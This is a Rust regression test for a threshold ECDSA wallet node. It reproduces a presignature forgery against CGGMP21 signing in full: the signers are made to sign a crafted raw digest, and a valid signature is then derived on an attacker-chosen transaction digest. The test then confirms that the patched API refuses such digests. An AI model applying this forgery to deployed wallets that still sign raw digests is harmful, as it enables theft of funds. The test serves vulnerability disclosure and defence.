//! The presignature forgery of ePrint 2021/1330 section 1.1.2 (CVE-2025-66017), carried out in
//! one process against the raw-digest path a cggmp21-secp256k1 wallet used to offer: the nonce
//! point R of a presignature is fixed before the message, so whoever learns R and may have a
//! chosen digest signed gets a valid signature on a digest of their choice. Aux info, keygen and
//! presigning run through the node's protocol runner (two parties, the public test primes);
//! the forged signature is checked with libsecp256k1 and the arithmetic done with k256, neither
//! of which is in the signing path. The last part shows that the API no longer signs a chosen
//! digest with a presignature.

mod cggmp_support;

use std::path::Path;

use k256::elliptic_curve::ops::Reduce;
use k256::elliptic_curve::point::AffineCoordinates;
use k256::elliptic_curve::sec1::FromEncodedPoint;
use k256::{AffinePoint, EncodedPoint, ProjectivePoint, Scalar, U256};
use secp256k1::ecdsa::Signature;
use secp256k1::{Message, PublicKey, SECP256K1};
use sha2::{Digest, Sha256};
use thresig_sidecar::model::requests::SignMessageParams;
use thresig_sidecar::model::scheme::WalletScheme;
use thresig_sidecar::protocols::cggmp::{self, KeygenRandomness, Protocol};

const PRIMES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../testvectors/cggmp21-primes.json"
);
const N: u16 = 2;

fn scalar(bytes: &[u8]) -> Scalar {
    <Scalar as Reduce<U256>>::reduce_bytes(bytes.into())
}

fn point(compressed: &[u8]) -> AffinePoint {
    AffinePoint::from_encoded_point(&EncodedPoint::from_bytes(compressed).unwrap()).unwrap()
}

/// x(P) mod n, as ECDSA's r.
fn r_of(point: &AffinePoint) -> Scalar {
    <Scalar as Reduce<U256>>::reduce_bytes(&point.x())
}

#[test]
fn a_chosen_raw_digest_signed_with_a_presignature_forges_a_signature_on_another_digest() {
    let parties: Vec<String> = (1..=N).map(|i| format!("node-{i}")).collect();
    let eid = |protocol| cggmp::execution_id(protocol, "forgery", "w", &parties, b"");
    let (aux, _) = cggmp_support::run_all(
        (0..N)
            .map(|i| {
                let primes = cggmp::primes::from_fixture(Path::new(PRIMES), i + 1).unwrap();
                cggmp::start_aux_info(eid(Protocol::AuxInfo), i, N, primes).unwrap()
            })
            .collect(),
    );
    let (cores, _) = cggmp_support::run_all(
        (0..N)
            .map(|i| {
                cggmp::start_keygen(eid(Protocol::Keygen), i, N, 2, KeygenRandomness::Fresh)
                    .unwrap()
            })
            .collect(),
    );
    let public_key = cggmp::public_key(&cores[0]);
    let shares: Vec<_> = cores
        .into_iter()
        .zip(aux)
        .map(|(core, aux)| cggmp::key_share(core, aux).unwrap())
        .collect();
    let (presignatures, _) = cggmp_support::run_all(
        shares
            .into_iter()
            .enumerate()
            .map(|(i, share)| {
                cggmp::start_presign(eid(Protocol::Presign), i as u16, vec![0, 1], share).unwrap()
            })
            .collect(),
    );
    // What the coordinator learns from every presigning run: the point R.
    let big_r = point(&cggmp::presignature_point(&presignatures[0]));
    assert_eq!(
        cggmp::presignature_point(&presignatures[1]),
        cggmp::presignature_point(&presignatures[0])
    );

    // The attacker wants a signature on h*, and picks c != 1: R* = cR, r* = x(R*).
    let target: [u8; 32] = Sha256::digest(b"a transaction paying the attacker").into();
    let c = Scalar::from(2u64);
    let r = r_of(&big_r);
    let r_star = r_of(&(ProjectivePoint::from(big_r) * c).to_affine());
    // The digest the signers are asked for: h = h* · r / r*.
    let h = scalar(&target) * r * r_star.invert().unwrap();
    let chosen: [u8; 32] = h.to_bytes().into();
    assert_ne!(chosen, target);

    // The old path: each signer issues its partial on the raw digest; the coordinator combines
    // them, and the signature verifies on h.
    let partials: Vec<Vec<u8>> = presignatures
        .into_iter()
        .map(|presignature| cggmp::issue_partial(presignature, &chosen).unwrap())
        .collect();
    let signed = cggmp::combine(&partials, &public_key, &chosen).unwrap();
    let key = PublicKey::from_slice(&public_key).unwrap();
    let honest = Signature::from_compact(&signed[..64]).unwrap();
    SECP256K1
        .verify_ecdsa(Message::from_digest(chosen), &honest, &key)
        .expect("the requested signature verifies");
    assert_eq!(scalar(&signed[..32]), r);

    // The forgery: s* = r* · s / (r · c) signs h* under (r*, s*), a digest nobody asked for.
    let s = scalar(&signed[32..64]);
    let s_star = r_star * s * (r * c).invert().unwrap();
    let mut forged = [0u8; 64];
    forged[..32].copy_from_slice(&r_star.to_bytes());
    forged[32..].copy_from_slice(&s_star.to_bytes());
    let mut forged = Signature::from_compact(&forged).unwrap();
    forged.normalize_s();
    SECP256K1
        .verify_ecdsa(Message::from_digest(target), &forged, &key)
        .expect("the forged signature verifies on the attacker's digest");

    // Now: a cggmp21 wallet refuses the chosen digest itself, and under an encoding the node
    // signs a hash of the message, not the message, so no chosen h can be steered in.
    let raw: SignMessageParams = serde_json::from_value(serde_json::json!({
        "walletId": "w", "message": format!("0x{}", hex::encode(chosen))
    }))
    .unwrap();
    let error = raw
        .signed_bytes(WalletScheme::Cggmp21Secp256k1)
        .unwrap_err();
    assert!(error.contains("does not sign a raw digest"), "{error}");
    let personal: SignMessageParams = serde_json::from_value(serde_json::json!({
        "walletId": "w", "message": format!("0x{}", hex::encode(chosen)), "encoding": "eip191"
    }))
    .unwrap();
    assert_ne!(
        personal
            .signed_bytes(WalletScheme::Cggmp21Secp256k1)
            .unwrap(),
        chosen.to_vec()
    );
}
